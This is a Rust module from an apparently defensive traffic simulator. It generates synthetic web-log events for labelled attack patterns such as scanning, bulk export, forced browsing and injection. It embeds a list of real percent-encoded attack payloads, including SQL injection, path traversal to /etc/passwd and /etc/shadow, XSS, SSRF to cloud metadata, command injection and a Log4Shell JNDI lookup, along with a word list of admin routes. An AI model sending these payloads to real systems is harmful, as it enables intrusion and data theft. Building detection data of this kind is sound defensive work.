//! Ways in that should not be there: holes, listings, staff routes, forgotten versions, injections.

use std::rc::Rc;

use rand::RngExt;

use super::Stage;
use super::theft::{Order, Pace, Share, Theft};
use crate::simulate::clock::{DAY, HOUR};
use crate::simulate::dice;
use crate::simulate::event::{Event, Who};
use crate::simulate::life::{self, HOLES};
use crate::simulate::truth::Hand;

const DRAIN: &[&str] = &["object_enumeration", "bulk_collection", "shadow_endpoint"];

/// Looks for many holes; one is there, and what lies behind it is fetched.
pub fn scanner(stage: &mut Stage<'_>) -> Vec<Hand> {
    let count = stage.count(1, 3);
    let addresses = stage.addresses(count);
    let (from, _) = stage.period();
    let tries = dice::log_uniform(&mut stage.dice, 150.0, 4_000.0) as usize;
    let hours = dice::log_uniform(&mut stage.dice, 0.1, 48.0);
    let agent = stage.agent(from);
    let on_api = stage.dice.random_bool(0.5);
    stage.note("tries", tries);
    let realm = stage.realm;
    let dice = &mut stage.dice;
    let until = from + (hours * HOUR as f64) as i64;
    let moments = Pace::Steady.moments(dice, (from, until.max(from + 60)), realm.west, tries);
    let found = dice.random_range(tries / 3..tries);
    let mut events = Vec::new();
    for (turn, &at) in moments.iter().enumerate() {
        let who = Who::new(dice::pick(dice, &addresses), "", "", &agent);
        let hole = *dice::pick(dice, &HOLES);
        let path =
            if turn < HOLES.len() { HOLES[turn].to_owned() } else { format!("{hole}.{turn}") };
        let opens = turn == found;
        let path = if opens { "/backup/site-2023.tar.gz".to_owned() } else { path };
        let mut ask = if on_api { realm.plain("GET", &path, 0) } else { realm.page(&path) };
        ask.bytes = 48_000_000;
        let status = if opens {
            200
        } else if dice.random_bool(0.1) {
            403
        } else {
            404
        };
        let mut event = Event::new(dice, at, &who, ask, status);
        event.aim = opens;
        events.push(event);
    }
    Hand::one(&["scanning", "privilege_probing"], events)
}

/// Page after page of a listing.
pub fn paged_export(stage: &mut Stage<'_>) -> Vec<Hand> {
    let count = stage.count(1, 40);
    let addresses = stage.addresses(count);
    let period = stage.period();
    let pages = dice::log_uniform(&mut stage.dice, 60.0, 3_000.0) as usize;
    let limit = *dice::pick(&mut stage.dice, &[50, 100, 200, 500]);
    let (pace, key) =
        (Pace::draw(&mut stage.dice), *dice::pick(&mut stage.dice, &["page", "offset"]));
    let hands = stage.hands(&addresses, period.0);
    stage.note("pages", pages);
    let realm = stage.realm;
    let dice = &mut stage.dice;
    let moments = pace.moments(dice, period, realm.west, pages);
    let mut events = Vec::new();
    for (page, &at) in moments.iter().enumerate() {
        let place = if key == "page" { page + 1 } else { page * limit };
        let target = format!("{}?{key}={place}&limit={limit}", realm.trade.path);
        let bytes = 400 * limit as u32 + dice.random_range(0..900);
        let who = dice::pick(dice, &hands).clone();
        let mut event = Event::new(dice, at, &who, realm.plain("GET", &target, bytes), 200);
        event.aim = true;
        events.push(event);
    }
    Hand::one(&["bulk_collection", "object_enumeration", "automation", "shadow_endpoint"], events)
}

/// A drain of a place that hardly anybody uses.
fn drain(stage: &mut Stage<'_>, addresses: usize, host: Rc<str>, path: &'static str) -> Theft {
    let period = stage.period();
    let leaf = stage.leaf();
    let wanted = stage.volume(leaf, period, (0.2, 6.0));
    let order = Order::draw(&mut stage.dice);
    let list = stage.list(wanted, order, 0.0);
    let addresses = stage.addresses(addresses);
    let hands = stage.hands(&addresses, period.0);
    Theft {
        period,
        list,
        place: (host, path),
        leaf,
        hands,
        share: Share::Mixed,
        pace: Pace::draw(&mut stage.dice),
        mimic: false,
        repeats: 0.0,
        stopped: None,
    }
}

/// Tries routes of the staff until one opens.
pub fn forced_browsing(stage: &mut Stage<'_>) -> Vec<Hand> {
    const WORDS: [&str; 14] = [
        "admin",
        "internal",
        "debug",
        "export",
        "users",
        "staff",
        "config",
        "audit",
        "roles",
        "impersonate",
        "reports",
        "jobs",
        "metrics",
        "keys",
    ];
    let count = stage.count(1, 6);
    let trade = stage.realm.trade;
    let theft = drain(stage, count, trade.host.into(), trade.staff_path);
    let realm = stage.realm;
    let dice = &mut stage.dice;
    let mut events = Vec::new();
    let mut at = theft.period.0 - dice.random_range(HOUR..3 * DAY);
    for _ in 0..dice.random_range(15..120) {
        let word = *dice::pick(dice, &WORDS);
        let target = match dice.random_range(0..3) {
            0 => format!("/{word}"),
            1 => format!("{}/{word}", trade.path),
            _ => format!("/v1/{word}/{}", dice::pick(dice, &WORDS)),
        };
        let status = dice::weighted(dice, &[(403, 5.0), (401, 3.0), (404, 3.0), (405, 1.0)]);
        let who = dice::pick(dice, &theft.hands).clone();
        events.push(Event::new(dice, at, &who, realm.plain("GET", &target, 0), status));
        at = (at + dice::pause(dice, 30.0)).min(theft.period.0 - 1);
    }
    events.extend(theft.events(dice, realm));
    Hand::one(
        &["privilege_probing", "object_enumeration", "bulk_collection", "shadow_endpoint"],
        events,
    )
}

/// A forgotten version.
pub fn shadow(stage: &mut Stage<'_>) -> Vec<Hand> {
    let count = stage.count(1, 300);
    let trade = stage.realm.trade;
    let theft = drain(stage, count, trade.host.into(), trade.old_path);
    let events = theft.events(&mut stage.dice, stage.realm);
    Hand::one(DRAIN, events)
}

/// A forgotten host.
pub fn shadow_host(stage: &mut Stage<'_>) -> Vec<Hand> {
    let count = stage.count(1, 300);
    let trade = stage.realm.trade;
    let host: Rc<str> = format!("test-{}", trade.host).into();
    let theft = drain(stage, count, host, trade.path);
    let events = theft.events(&mut stage.dice, stage.realm);
    Hand::one(DRAIN, events)
}

/// Payloads as they arrive, percent-encoded.
const PAYLOADS: [&str; 18] = [
    "%27%20OR%20%271%27%3D%271",
    "1%20UNION%20SELECT%20null,name,null%20FROM%20members--",
    "%27%3B%20WAITFOR%20DELAY%20%270:0:5%27--",
    "1)%20AND%20SLEEP(5)--%20-",
    "%27%20AND%20extractvalue(1,concat(0x7e,version()))--",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "http:%2f%2f169.254.169.254%2flatest%2fmeta-data%2f",
    "%3Bid%3B",
    "%7Cwhoami",
    "%24(sleep%205)",
    "%24%7Bjndi:ldap://x.example/a%7D",
    "%7B%7B7*7%7D%7D",
    "php:%2f%2ffilter%2fconvert.base64-encode%2fresource=index",
    "%00../../boot.ini",
];

/// Many payloads; one gets an answer far larger than usual.
pub fn injection(stage: &mut Stage<'_>) -> Vec<Hand> {
    let count = stage.count(1, 12);
    let addresses = stage.addresses(count);
    let (from, _) = stage.period();
    let tries = dice::log_uniform(&mut stage.dice, 15.0, 600.0) as usize;
    let hours = dice::log_uniform(&mut stage.dice, 0.2, 100.0);
    let hands = stage.hands(&addresses, from);
    stage.note("tries", tries);
    let realm = stage.realm;
    let dice = &mut stage.dice;
    let until = from + (hours * HOUR as f64) as i64;
    let moments = Pace::Steady.moments(dice, (from, until.max(from + 60)), realm.west, tries);
    let works = dice.random_range(tries / 2..tries);
    let mut events = Vec::new();
    for (turn, &at) in moments.iter().enumerate() {
        let payload = *dice::pick(dice, &PAYLOADS);
        let opens = turn == works;
        let who = dice::pick(dice, &hands).clone();
        let mut ask = match dice.random_range(0..4) {
            0 => realm.plain("GET", &format!("{}?q={payload}", realm.trade.search), 388),
            1 => realm.plain("GET", &format!("{}/{payload}", realm.trade.path), 388),
            2 => realm.page(&format!("{}?sort={payload}", realm.trade.goods)),
            _ => {
                let mut ask = life::item(realm, turn as u32 % 300);
                ask.target = format!("{}?ref={payload}", ask.target);
                ask
            }
        };
        let status = if opens {
            ask.bytes = 250_000 + dice.random_range(0..900_000);
            200
        } else {
            dice::weighted(dice, &[(400, 5.0), (403, 3.0), (404, 3.0), (500, 1.0), (200, 2.0)])
        };
        let mut event = Event::new(dice, at, &who, ask, status);
        event.aim = opens;
        events.push(event);
    }
    Hand::one(&["injection", "scanning"], events)
}
